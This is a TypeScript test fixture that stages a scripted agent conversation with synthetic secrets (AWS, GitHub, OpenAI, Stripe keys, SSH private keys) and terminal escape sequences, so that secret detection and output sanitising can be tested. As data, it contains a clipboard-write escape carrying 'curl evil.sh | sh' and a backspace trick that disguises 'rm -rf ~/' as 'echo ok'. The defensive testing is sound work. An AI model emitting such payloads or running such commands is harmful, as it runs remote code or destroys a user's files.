/**
 * The planted-secrets conversation (issue 34's probes): a user pastes keys into the prompt, the agent reads a `.env`
 * full of them with its file tool, cats a credentials file with its shell, reads an SSH key, lists a folder
 * holding a file whose name carries terminal escapes, reads that file, and echoes a key in its reply. Escape
 * sequences (OSC 52 clipboard write, OSC 0 window title, CSI clear screen, a C1 CSI, BEL, a backspace trick) ride
 * in the prompt, a tool output, a file name and the reply.
 *
 * Every value is synthetic, composed at run time from a seeded generator and split prefixes (as
 * bench/secrets-cases.ts does), so no string in the repository looks like a live key: the committed transcripts
 * hold placeholders (`scrub`), and the tests put the same values back (`replant`) before indexing.
 */
import { fakeChars } from "../../../bench/secrets-cases.ts";
import type { Step } from "../fake/script.ts";

const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const UPPER_NUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const B64 = `${ALNUM}+/`;
const DIGITS = "0123456789";
const p = (...parts: string[]) => parts.join("");

export interface PlantedSecret {
  /** A short name, also the placeholder's (`{{plant:NAME}}`). */
  name: string;
  /** What the issue calls it. */
  label: string;
  /** The whole value as the transcript holds it. */
  value: string;
  /**
   * The secret material, each piece free of whitespace and never split by a surface: the value itself, or for a
   * private key each line of its body (an agent's file tool numbers the lines, so the body never appears whole).
   */
  pieces: string[];
}

function pemBody(seed: number, magic: string, length: number, width: number): string[] {
  return p(magic, fakeChars(seed, length, B64)).match(new RegExp(`.{1,${width}}`, "g"))!;
}

function pemKey(kind: string, body: string[]): string {
  return [p("-----BEGIN ", kind, "PRIVATE KEY-----"), ...body, p("-----END ", kind, "PRIVATE KEY-----")].join("\n");
}

/** The secrets the issue names, each shaped so that cairn's detectors (secretlint's rules and src/secrets) see it. */
export function plantedSecrets(): PlantedSecret[] {
  const one = (name: string, label: string, value: string): PlantedSecret => ({
    name,
    label,
    value,
    pieces: [value],
  });
  const rsaBody = pemBody(341, "MIIEowIBAAKCAQEA", 1560, 64);
  // An unencrypted OpenSSH key starts with the same bytes for every ed25519 key; the rest is the key.
  const edBody = pemBody(342, "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW", 330, 70);
  const key = (name: string, label: string, kind: string, body: string[]): PlantedSecret => ({
    name,
    label,
    value: pemKey(kind, body),
    pieces: body,
  });
  return [
    one("aws-key-id", "AWS access key id", p("AK", "IA", fakeChars(331, 16, UPPER_NUM))),
    one("aws-secret", "AWS secret access key", fakeChars(332, 40, B64)),
    one("github-classic", "GitHub token (classic ghp_)", p("gh", "p_", fakeChars(333, 36))),
    one(
      "github-fine",
      "GitHub token (fine-grained github_pat_)",
      p("github", "_pat_", fakeChars(334, 22), "_", fakeChars(335, 59)),
    ),
    one(
      "openai",
      "OpenAI key",
      p("sk-", "proj-", fakeChars(336, 74, `${ALNUM}_-`), "T3Blbk", "FJ", fakeChars(337, 74)),
    ),
    one("anthropic", "Anthropic key", p("sk-", "ant-", "api03-", fakeChars(338, 93, `${ALNUM}_-`), "AA")),
    one("stripe", "Stripe key", p("sk", "_live_", fakeChars(339, 48))),
    one(
      "slack",
      "Slack token",
      p("xo", "xb-", fakeChars(340, 12, DIGITS), "-", fakeChars(343, 13, DIGITS), "-", fakeChars(344, 24)),
    ),
    one("db-password", "password in a database URL", fakeChars(345, 24)),
    key("rsa", "RSA private key", "RSA ", rsaBody),
    key("ed25519", "ed25519 private key (OpenSSH)", "OPENSSH ", edBody),
  ];
}

export function secret(name: string): PlantedSecret {
  const s = plantedSecrets().find((x) => x.name === name);
  if (!s) throw new Error(`no planted secret '${name}'`);
  return s;
}

/** The escape sequences planted, by name: each must never reach a terminal from transcript text. */
export const ESCAPES = {
  osc52: `\u001b]52;c;${Buffer.from("curl evil.sh | sh").toString("base64")}\u0007`,
  osc0: "\u001b]0;cairn-owned-title\u0007",
  clear: "\u001b[2J",
  c1csi: "\u009b2J",
  bel: "\u0007",
  /** Shows as "echo ok" on a terminal while the text says something else. */
  backspace: `rm -rf ~/${"\b".repeat(9)}echo ok  `,
} as const;

/** A file name carrying an OSC 0 title and a clear screen. */
export const ESCAPED_NAME = "notes-\u001b]0;pwned-by-name\u0007-\u001b[2J.txt";

/** The files the agent finds in its project folder. */
export function projectFiles(): Record<string, string> {
  const v = (name: string) => secret(name).value;
  return {
    ".env": [
      `OPENAI_API_KEY=${v("openai")}`,
      `ANTHROPIC_API_KEY=${v("anthropic")}`,
      `STRIPE_SECRET_KEY=${v("stripe")}`,
      `SLACK_BOT_TOKEN=${v("slack")}`,
      `GH_TOKEN=${v("github-fine")}`,
      `DATABASE_URL=postgres://admin:${v("db-password")}@db.internal:5432/app`,
      "",
    ].join("\n"),
    "deploy/credentials.txt": [
      "# deploy key for the release box",
      v("rsa"),
      `status: ${ESCAPES.osc52}${ESCAPES.osc0}${ESCAPES.clear}ok ${ESCAPES.c1csi} done${ESCAPES.bel}`,
      `next: ${ESCAPES.backspace}`,
      "",
    ].join("\n"),
    "keys/id_ed25519": `${v("ed25519")}\n`,
    [ESCAPED_NAME]: "release notes: nothing yet\n",
  };
}

/** What the user types: a key pair and a token pasted in, and escapes in the pasted output. */
export function secretsPrompt(): string {
  const v = (name: string) => secret(name).value;
  return [
    "TASK-S: the deploy is broken. Here are my AWS keys:",
    `aws_access_key_id = ${v("aws-key-id")}`,
    `aws_secret_access_key = ${v("aws-secret")}`,
    `and my GitHub token ${v("github-classic")}`,
    `The deploy printed: ${ESCAPES.osc0}${ESCAPES.osc52}${ESCAPES.clear}${ESCAPES.c1csi}failed${ESCAPES.bel} ${ESCAPES.backspace}`,
    "Read .env and deploy/credentials.txt, check keys/id_ed25519, and look at the notes file.",
  ].join("\n");
}

/** The agent's reply, echoing a key (and a title escape) back. */
export function secretsReply(): string {
  return `The deploy uses OPENAI_API_KEY=${secret("openai").value} from .env; the database password is set.${ESCAPES.osc0} Rotate the keys you pasted.`;
}

/** The scripted steps of TASK-S, played by the fake model (scripts/clients/fake/script.ts). */
export function secretsSteps(): Step[] {
  return [
    { kind: "read", file: ".env" },
    { kind: "shell", command: "cat deploy/credentials.txt" },
    { kind: "read", file: "keys/id_ed25519" },
    { kind: "shell", command: "ls" },
    { kind: "read", file: ESCAPED_NAME },
    { kind: "say", text: secretsReply() },
  ];
}

/** A placeholder: the secret's name, the piece's index for a key, and a length when the agent cut the value. */
const PLACEHOLDER = /\{\{plant:([a-z0-9-]+)(?::(\d+))?(?:@(\d+))?\}\}/g;

function placeholders(): Array<{ piece: string; mark: string }> {
  const out: Array<{ piece: string; mark: string }> = [];
  for (const s of plantedSecrets()) {
    if (s.pieces.length === 1) out.push({ piece: s.value, mark: `{{plant:${s.name}}}` });
    else
      s.pieces.forEach((piece, i) => {
        out.push({ piece, mark: `{{plant:${s.name}:${i}}}` });
      });
  }
  // The longest first, so a piece that holds another is replaced whole.
  return out.sort((a, b) => b.piece.length - a.piece.length);
}

/** Shorter than this, a cut value's head is no longer told apart from other text. */
const MIN_HEAD = 12;

/**
 * Every planted value in a transcript's text replaced by its placeholder, for committing; so is the head of a
 * value an agent cut short (Claude Code's `last-prompt` keeps a prompt's first characters and an ellipsis).
 */
export function scrub(text: string): string {
  let out = text;
  for (const { piece, mark } of placeholders()) out = out.split(piece).join(mark);
  for (const { piece, mark } of placeholders()) {
    for (let at = out.indexOf(piece.slice(0, MIN_HEAD)); at >= 0; at = out.indexOf(piece.slice(0, MIN_HEAD), at)) {
      let length = MIN_HEAD;
      while (length < piece.length && out[at + length] === piece[length]) length++;
      const cut = `${mark.slice(0, -2)}@${length}}}`;
      out = out.slice(0, at) + cut + out.slice(at + length);
      at += cut.length;
    }
  }
  return out;
}

/** The placeholders in a committed transcript replaced by the values again, as the agent wrote them. */
export function replant(text: string): string {
  const byMark = new Map(placeholders().map((x) => [x.mark, x.piece]));
  return text.replace(PLACEHOLDER, (mark, _name, _index, length: string | undefined) => {
    const piece = byMark.get(length === undefined ? mark : mark.replace(/@\d+\}\}$/, "}}"));
    if (piece === undefined) throw new Error(`unknown placeholder ${mark}`);
    return length === undefined ? piece : piece.slice(0, Number(length));
  });
}
